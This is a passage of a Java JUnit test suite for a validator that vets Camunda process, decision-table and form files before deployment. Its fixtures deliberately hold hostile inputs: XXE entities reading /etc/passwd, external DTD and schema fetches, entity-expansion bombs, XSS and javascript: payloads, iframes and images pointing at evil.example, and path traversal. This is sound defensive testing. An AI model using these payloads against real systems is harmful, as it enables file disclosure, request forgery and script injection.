        table("a method of a value is code of its class", "<text>age + 0</text>", "<text>age.getClass()</text>", Rule.FEEL_JAVA, "input expression (in-2-expression)", "getClass"),
        table("any method of a value is code of its class", "<text>age + 0</text>", "<text>patient.label(1)</text>", Rule.FEEL_JAVA, "input expression (in-2-expression)",
            "patient.label(1)"),
        table("the class of a value in FEEL leads to the program", "<text>age + 0</text>", "<text>age.class</text>", Rule.FEEL_JAVA, "input expression (in-2-expression)", "age.class"),
        table("FEEL that cannot be read", "<text>age + 0</text>", "<text>age + (</text>", Rule.FEEL_SYNTAX, "input expression (in-2-expression)", "age + ("),
        table("a condition that cannot be read", "<text>&gt;= 65</text>", "<text>&gt;== 65</text>", Rule.FEEL_SYNTAX, "input entry (row-1-in-2)", ">== 65"),
        table("an import of a table loads from elsewhere", "  <decision id=\"small-table\"", "  <import name=\"x\" namespace=\"x\" locationURI=\"http://evil.example/\" importType=\"x\" />\n  <decision id=\"small-table\"",
            Rule.IMPORT, "", "<import>"),
        table("a hit policy that the engine lacks", "hitPolicy=\"FIRST\"", "hitPolicy=\"PRIORITY\"", Rule.HIT_POLICY, RISK, "PRIORITY"),
        table("another hit policy that the engine lacks", "hitPolicy=\"FIRST\"", "hitPolicy=\"OUTPUT ORDER\"", Rule.HIT_POLICY, RISK, "OUTPUT ORDER"),
        table("two outputs cannot be summed up", "hitPolicy=\"FIRST\"", "hitPolicy=\"COLLECT\" aggregation=\"SUM\"", Rule.AGGREGATION, RISK, "SUM over 2 outputs"),
        table("only Collect sums up", "hitPolicy=\"FIRST\"", "hitPolicy=\"FIRST\" aggregation=\"MAX\"", Rule.AGGREGATION, RISK, "MAX"),
        new Refused("a table without inputs decides nothing", () -> SmallSet.added(TABLE, text(SmallSet.good(), TABLE)
            .replaceAll("(?s)<input id=.*?</input>\\s*", "").replaceAll("(?s)<inputEntry.*?</inputEntry>\\s*", "")), TABLE, Rule.NO_COLUMN, RISK, "no input"),
        table("an input has a type", "<inputExpression id=\"in-1-expression\" typeRef=\"string\">", "<inputExpression id=\"in-1-expression\">", Rule.TYPE_MISSING, RISK, "input \"Band\""),
        table("an output has a type", "name=\"risk\" typeRef=\"string\"", "name=\"risk\"", Rule.TYPE_MISSING, RISK, "output \"Risk\""),
        table("a first-hit table answers everybody", "<inputEntry id=\"row-2-in-1\"><text></text>", "<inputEntry id=\"row-2-in-1\"><text>\"low\"</text>", Rule.DEFAULT_RULE, RISK,
            "no row fits"),
        table("a decision says what it is for", "    <description>Purpose: what is missing.</description>\n", "", Rule.DOCUMENTATION,
            "decision \"Problems with the inputs\" (small-list)", "no description"),
        table("a decision has a version", "name=\"Risk\" camunda:historyTimeToLive=\"P3653D\" camunda:versionTag=\"1.0.0\"", "name=\"Risk\" camunda:historyTimeToLive=\"P3653D\"",
            Rule.VERSION_TAG, RISK, "no version tag"),
        table("records of decisions are kept six years", "name=\"Risk\" camunda:historyTimeToLive=\"P3653D\"", "name=\"Risk\" camunda:historyTimeToLive=\"P30D\"",
            Rule.TIME_TO_LIVE, RISK, "P30D"),
        table("a decision has logic that the engine runs", "    <literalExpression id=\"small-list-literal\"><text>[if age = null then \"age missing\" else null][item != null]</text>"
            + "</literalExpression>\n", "", Rule.TABLE_LOGIC, "decision \"Problems with the inputs\" (small-list)", "neither"),
        table("an extension of a table that nobody reviewed", "name=\"Risk\" camunda", "name=\"Risk\" camunda:surprise=\"x\" camunda", Rule.UNKNOWN_EXTENSION, RISK, "surprise"));
  }

  static Stream<Refused> forms() {
    return Stream.of(
        form("a form is called as its file", "\"id\": \"small-form\"", "\"id\": \"other-form\"", Rule.MODEL_ID, "", "other-form"),
        form("a form that Tasklist can show", "\"schemaVersion\": 16", "\"schemaVersion\": 19", Rule.FORM_VERSION, "", "19"),
        form("a form that says its version", "  \"schemaVersion\": 16,\n", "", Rule.FORM_VERSION, "", "no schema version"),
        form("two fields of one key", "\"key\": \"remark\"", "\"key\": \"weight\"", Rule.FORM_KEY_TWICE, "textfield \"Remark\" (weight)", "weight"),
        form("a key is a variable", "\"key\": \"remark\"", "\"key\": \"Remark 1\"", Rule.FORM_KEY_NAME, "textfield \"Remark\" (Remark 1)", "Remark 1"),
        form("a field has a label", "\"label\": \"Remark\"", "\"label\": \"\"", Rule.FORM_LABEL, "textfield (remark)", "no label"),
        form("a list that folds its rows", "\"disableCollapse\": true, ", "", Rule.FORM_LIST_FOLDS, "dynamiclist \"Calls\" (calls)", "shows 5 rows"),
        field("files cannot be sent", "{ \"type\": \"filepicker\", \"id\": \"p\", \"key\": \"paper\", \"label\": \"Paper\" }", Rule.FORM_COMPONENT, "filepicker \"Paper\" (paper)", "filepicker"),
        field("documents cannot be shown", "{ \"type\": \"documentPreview\", \"id\": \"p\", \"label\": \"Paper\" }", Rule.FORM_COMPONENT, "document preview \"Paper\" (p)", "documentPreview"),
        field("HTML runs in the browser", "{ \"type\": \"html\", \"id\": \"h\", \"content\": \"<script>alert(1)</script>\" }", Rule.FORM_ACTIVE, "html (h)", "html"),
        field("a foreign page runs in the browser", "{ \"type\": \"iframe\", \"id\": \"i\", \"label\": \"Help\", \"url\": \"https://evil.example\" }", Rule.FORM_ACTIVE,
            "iframe \"Help\" (i)", "iframe"),
        field("a picture of another host tells it who looks", "{ \"type\": \"image\", \"id\": \"i\", \"source\": \"https://evil.example/x.png\" }", Rule.FORM_LINK, "image (i)", "evil.example"),
        field("a picture within the file is not reviewed", "{ \"type\": \"image\", \"id\": \"i\", \"source\": \"data:image/svg+xml;base64,AAAA\" }", Rule.FORM_LINK, "image (i)", "data:"),
        form("a link leads to another host", "### {{patientLabel}}", "### {{patientLabel}} [help](//evil.example)", Rule.FORM_LINK, "text (who)", "evil.example"),
        form("a link may be a script", "### {{patientLabel}}", "### {{patientLabel}} [help](javascript:alert(1))", Rule.FORM_LINK, "text (who)", "javascript"),
        form("a label may hold a link, too", "\"label\": \"Remark\"", "\"label\": \"Remark https://evil.example\"", Rule.FORM_LINK, "textfield \"Remark https://evil.example\" (remark)",
            "evil.example"),
        form("HTML in a text", "### {{patientLabel}}", "### {{patientLabel}} <img src=x onerror=alert(1)>", Rule.FORM_HTML, "text (who)", "<img"),
        form("an expression of the engine in a form", "\"label\": \"Remark\"", "\"label\": \"Remark ${x}\"", Rule.EXPRESSION_PLACE, "textfield \"Remark ${x}\" (remark)", "${x}"),
        form("a form's condition that cannot be read", "=weight < 40", "=weight < ", Rule.FEEL_SYNTAX, "textfield \"Remark\" (remark)", "weight <"),
        form("a text whose expression cannot be read", "{{patientLabel}}", "{{patientLabel +}}", Rule.FEEL_SYNTAX, "text (who)", "patientLabel +"),
        form("a condition that reaches into the program", "=weight < 40", "=weight.getClass() = null", Rule.FEEL_JAVA, "textfield \"Remark\" (remark)", "getClass"),
        form("a name twice hides one of two values", "\"min\": 20", "\"min\": 20, \"min\": 10", Rule.NOT_WELL_FORMED, "", "line"),
        new Refused("a form that is not JSON", () -> SmallSet.added(FORM, "{ not json"), FORM, Rule.NOT_WELL_FORMED, "", "line 1"),
        new Refused("a form that is a list", () -> SmallSet.added(FORM, "[]"), FORM, Rule.NOT_WELL_FORMED, "", "no JSON object"),
        new Refused("a form followed by something else", () -> SmallSet.added(FORM, text(SmallSet.good(), FORM) + "{}"), FORM, Rule.NOT_WELL_FORMED, "", "line"));
  }

  private static Refused patients(String reason, String find, String replace, Rule rule, String element, String what) {
    return new Refused(reason, () -> SmallSet.forPatients(find, replace), FORM, rule, element, what);
  }

  static Stream<Refused> patientForms() {
    String sleep = "radio \"How do you sleep?\" (sleep)";
    String more = "textarea \"More?\" (more)";
    return Stream.of(
        patients("a page that no link is for", "\"patientPage\": \"screening\"", "\"patientPage\": \"results\"", Rule.PATIENT_PAGE, "text (patientIntro)", "results"),
        patients("two pages in one form", "\"es\": \"¿Algo más?\"", "\"es\": \"¿Algo más?\", \"patientPage\": \"plan\"", Rule.PATIENT_PAGE, more, "second"),
        patients("a page has a title in both languages", "\"title.es\": \"Su día\", ", "", Rule.PATIENT_WORDS, "text (patientIntro)", "title.es"),
        patients("a question in English alone", "{ \"es\": \"¿Algo más?\" }", "{ \"es\": \" \" }", Rule.PATIENT_WORDS, more, "no property es"),
        patients("a heading in English alone", "{ \"es\": \"Sueño\" }", "{}", Rule.PATIENT_WORDS, "group \"Sleep\" (g)", "no property es"),
        patients("a description in English alone", "\"description.es\": \"La semana pasada.\", ", "", Rule.PATIENT_WORDS, sleep, "description.es"),
        patients("a text with values of the case", "\"properties\": { \"staffOnly\": \"yes\" } },\n  { \"type\": \"group\"",
            "\"properties\": { \"es\": \"Usted\" } },\n  { \"type\": \"group\"", Rule.PATIENT_WORDS, "text (who)", "values of the case"),
        patients("an answer in English alone", "well=Bien|badly=Mal", "well=Bien|bad=Mal", Rule.PATIENT_CHOICES, sleep, "badly"),
        patients("a list that a patient would see", ", \"properties\": { \"staffOnly\": \"yes\" }, \"components\"", ", \"components\"", Rule.PATIENT_FIELD,
            "dynamiclist \"Calls\" (calls)", "dynamiclist"),
        patients("a group with names of its own", "\"label\": \"Sleep\"", "\"label\": \"Sleep\", \"path\": \"night\"", Rule.PATIENT_FIELD, "group \"Sleep\" (g)", "path"),
        patients("a time of day", "\"type\": \"textarea\", \"id\": \"more\"", "\"type\": \"datetime\", \"subtype\": \"time\", \"id\": \"more\"", Rule.PATIENT_FIELD,
            "datetime \"More?\" (more)", "time"),
        patients("a misspelled mark for the care team", "\"staffOnly\": \"yes\" } },", "\"staffOnly\": \"true\", \"en\": \"x\", \"es\": \"x\" } },", Rule.PATIENT_STAFF, "text (who)",
            "true"),
        patients("help that would never come", "\"=sleep = ", "\"sleep = ", Rule.PATIENT_HELP, sleep, "helpWhen"),
        patients("a condition for help that cannot be read", "\"=sleep = ", "\"=sleep >< ", Rule.FEEL_SYNTAX, sleep, "helpWhen"),
        patients("a link to elsewhere in a translation", "¿Algo más?", "Vea https://evil.example", Rule.FORM_LINK, more, "evil.example"),
        patients("HTML in a translation", "Dos preguntas.", "<img src=x>", Rule.FORM_HTML, "text (patientIntro)", "<img"));
  }

  static Stream<Refused> files() {
    return Stream.of(
        file("a path out of the folders", "processes/../../etc/x.bpmn", "x", Rule.PATH_OUTSIDE, "leads out"),
        file("an absolute path", "/etc/x.bpmn", "x", Rule.PATH_OUTSIDE, "leads out"),
        file("a path with a backslash", "processes\\x.bpmn", "x", Rule.PATH_OUTSIDE, "leads out"),
        file("a script beside the diagrams", "processes/steal.groovy", "x", Rule.UNKNOWN_KIND, "not a diagram"),
        file("a page beside the forms", "forms/evil.html", "<script/>", Rule.UNKNOWN_KIND, "not a diagram"),
        file("a case diagram", "processes/case.cmmn", "<x/>", Rule.UNKNOWN_KIND, "CMMN"),
        file("a class among the models", "processes/Evil.class", "x", Rule.UNKNOWN_KIND, "not a diagram"),
        file("a file that nobody can review", "processes/huge.bpmn", "x".repeat(FileNames.LARGEST + 1), Rule.TOO_LARGE, "bytes"),
        file("an everyday name", FORM.replace("small-form", "Small Form"), text(SmallSet.good(), FORM).replace("\"small-form\"", "\"Small Form\""), Rule.FILE_NAME, "Small Form"),
        new Refused("a folder in the folder", () -> SmallSet.good().with(Map.of("processes/old/small-part.bpmn", SmallSet.good().files().get(PART))),
            "processes/old/small-part.bpmn", Rule.WRONG_FOLDER, "", "directly into processes/"),
        new Refused("two names that differ in capital letters", () -> SmallSet.good().with(Map.of("forms/small-Form.form", SmallSet.good().files().get(FORM))),
            FORM, Rule.SAME_NAME, "", "small-Form"),
        new Refused("a signal that nobody catches", SmallSet::throwing, CALL, Rule.SIGNAL_UNHEARD, "end event \"Patient called\" (done)", "catches signal \"closing\""),
        new Refused("a signal that nobody throws", SmallSet::startedBySignal, CALL, Rule.SIGNAL_SILENT, "start event \"Patient arrived\" (arrived)",
            "throws signal \"closing\""),
        new Refused("a form that nothing shows", () -> SmallSet.added("forms/lost.form", text(SmallSet.good(), FORM).replace("small-form", "lost")), "forms/lost.form", Rule.UNUSED, "",
            "no task"),
        new Refused("a table that nothing asks", () -> SmallSet.added("decisions/lost.dmn", text(SmallSet.good(), TABLE).replace("small-", "lost-").replace("\"lost-table\"", "\"lost\"")),
            "decisions/lost.dmn", Rule.UNUSED, "", "no diagram"),
        new Refused("a decision that is there twice", () -> SmallSet.added("decisions/lost.dmn", text(SmallSet.good(), TABLE).replace("\"small-table\"", "\"lost\"")), TABLE,
            Rule.DECISION_TWICE, "decision \"Problems with the inputs\" (small-list)", "decisions/lost.dmn"),
        new Refused("a table is called as its file", () -> SmallSet.with(TABLE, "<decision id=\"small-table\"", "<decision id=\"other-table\""), TABLE, Rule.MODEL_ID, "", "small-table"),
        call("a file that breaks off", "</bpmn:definitions>", "", Rule.NOT_WELL_FORMED, "", "line"),
        call("an element that BPMN does not know", "    <bpmn:endEvent id=\"done\"", "    <bpmn:magic />\n    <bpmn:endEvent id=\"done\"", Rule.NOT_VALID, "", "line"),
        new Refused("a diagram that is something else", () -> SmallSet.added("processes/other.bpmn", "<html xmlns=\"http://www.w3.org/1999/xhtml\" />"), "processes/other.bpmn",
            Rule.OTHER_ROOT, "", "<html>"),
        new Refused("a case diagram in disguise", () -> SmallSet.added("processes/other.bpmn", "<definitions xmlns=\"http://www.omg.org/spec/CMMN/20151109/MODEL\" />"),
            "processes/other.bpmn", Rule.OTHER_ROOT, "", "<definitions>"),
        new Refused("a table that is a diagram", () -> SmallSet.added("decisions/other.dmn", text(SmallSet.good(), PART)), "decisions/other.dmn", Rule.OTHER_ROOT, "",
            "<bpmn:definitions>"),
        call("an entity reads a file of the server", DOCUMENT, DOCUMENT + "<!DOCTYPE x [<!ENTITY secret SYSTEM \"file:///etc/passwd\">]>", Rule.DOCTYPE, "", "DOCTYPE"),
        call("an entity calls an address", DOCUMENT, DOCUMENT + "<!DOCTYPE x SYSTEM \"http://127.0.0.1:1/evil.dtd\">", Rule.DOCTYPE, "", "DOCTYPE"),
        table("entities multiply", DOCUMENT, DOCUMENT + "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]>", Rule.DOCTYPE, "", "DOCTYPE"),
        call("a schema is fetched from an address", ROOT, "<bpmn:definitions xsi:schemaLocation=\"http://x http://127.0.0.1:1/x.xsd\" xmlns:bpmn", Rule.EXTERNAL_SCHEMA, "",
            "schemaLocation"),
        file("elements within elements without end", "processes/deep.bpmn", "<a>".repeat(5000) + "</a>".repeat(5000), Rule.NOT_WELL_FORMED, "line"));
  }

  static Stream<Refused> all() {
    return Stream.of(scripts(), code(), expressions(), house(), tables(), forms(), patientForms(), files()).flatMap(examples -> examples);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("all")
  void isRefusedForItsReasonAlone(Refused example) {
    VettingReport report = VETTING.vet(example.set.get());

    List<Finding> findings = withoutConsequences(example, report.findings());
    assertThat(findings).as(report.text()).hasSize(1);
    Finding finding = findings.get(0);
    assertThat(finding.file()).isEqualTo(example.file);
    assertThat(finding.why()).as(report.text()).isEqualTo(example.rule.why());
    assertThat(finding.element()).isEqualTo(example.element);
    assertThat(finding.what()).contains(example.what);
    assertThat(finding.remedy()).isEqualTo(example.rule.remedy());
    assertThat(finding.unsafe()).isEqualTo(example.rule.unsafe());
    assertThat(System.getProperty(MARKER)).as("the model was run").isNull();
  }

  /** A model that is not taken, or renamed, is missing elsewhere, too: that much follows by itself. */
  private static List<Finding> withoutConsequences(Refused example, List<Finding> findings) {
    Set<Rule> following = switch (example.rule) {
      case COMPUTED_REFERENCE -> EnumSet.of(Rule.UNUSED);
      case MISSING_PROCESS, MISSING_TABLE, MISSING_FORM -> EnumSet.of(Rule.UNUSED);
      case SAME_NAME -> EnumSet.of(Rule.FILE_NAME, Rule.MODEL_ID, Rule.UNUSED);
      case FILE_NAME -> EnumSet.of(Rule.UNUSED);
      case EXPRESSION_PLACE -> EnumSet.of(Rule.OTHER_ASSIGNMENT);
      case FORM_KEY, OTHER_ROOT -> EnumSet.of(Rule.UNUSED);
      case DECISION_TWICE -> EnumSet.of(Rule.UNUSED);
      default -> Set.of();
    };
    Set<String> reasons = following.stream().map(Rule::why).collect(Collectors.toSet());
    return findings.stream().filter(finding -> !reasons.contains(finding.why())).toList();
  }

  @Test
  void everyRuleHasAnExampleThatBreaksIt() {
    Set<Rule> shown = all().map(Refused::rule).collect(Collectors.toCollection(() -> EnumSet.noneOf(Rule.class)));

    assertThat(shown).containsExactlyInAnyOrder(Rule.values());
    assertThat(all().count()).isGreaterThanOrEqualTo(80);
    assertThat(all().map(Refused::reason)).doesNotHaveDuplicates();
  }

  @Test
  void whatIsUnsafeIsRefusedToTheEngineAsWell() {
    assertThat(all().filter(example -> example.rule.unsafe() && !Set.of(Rule.PATH_OUTSIDE, Rule.SAME_NAME).contains(example.rule))).allSatisfy(example ->
        assertThat(VETTING.vetUnsafe(Map.of(example.file, example.set.get().files().get(example.file))).findings()).as(example.reason)
            .anySatisfy(finding -> assertThat(finding.why()).isEqualTo(example.rule.why())));
  }

  @Test
  void theListOfRulesIsComplete() throws IOException {
    String list = Files.readString(Path.of("src/docs/vetting.md"));

    assertThat(Rule.values()).allSatisfy(rule -> assertThat(list).contains("| %s | %s |".formatted(rule.why(), rule.remedy().replace("|", "\\|"))));
    assertThat(Vocabulary.ofThisProgram().calendar().keySet()).allSatisfy(method -> assertThat(list).contains("`calendar." + method + "("));
  }

  @Test
  void everyReasonIsAnotherOne() {
    assertThat(Arrays.stream(Rule.values()).map(Rule::why)).doesNotHaveDuplicates();
  }

  private static String text(ModelSet set, String file) {
    return new String(set.files().get(file), StandardCharsets.UTF_8);
  }

  private static ModelSet replaced(String file, String find, String replace) {
    return SmallSet.good().with(Map.of(file, text(SmallSet.good(), file).replace(find, replace).getBytes(StandardCharsets.UTF_8)));
  }
}
